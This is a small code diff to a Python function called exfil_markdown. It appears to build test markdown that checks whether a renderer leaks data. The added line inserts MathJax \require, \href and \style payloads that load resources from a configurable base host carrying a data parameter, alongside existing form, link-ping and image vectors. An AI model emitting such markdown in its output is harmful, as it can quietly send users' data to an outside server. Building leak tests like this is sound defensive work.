@@ -68,6 +68,8 @@ def exfil_markdown(base: str) -> str:
 <form action="{base}/form?{s}"><button>go</button></form>
 <a href="{base}/link-click?{s}" ping="{base}/ping?{s}">a plain link</a>
 
+Math: $\\require{{{base}/mathjax-require.js}}x$ and $$\\require{{[{base}/mj]{{ext}}}} \\href{{{base}/mathjax-href?{s}}}{{y}} \\style{{background-image: url({base}/mathjax-style?{s})}}{{z}}$$
+
 ![same server](/files/pixel.png)
 
 ![inline](data:image/png;base64,{PIXEL_PNG_B64})
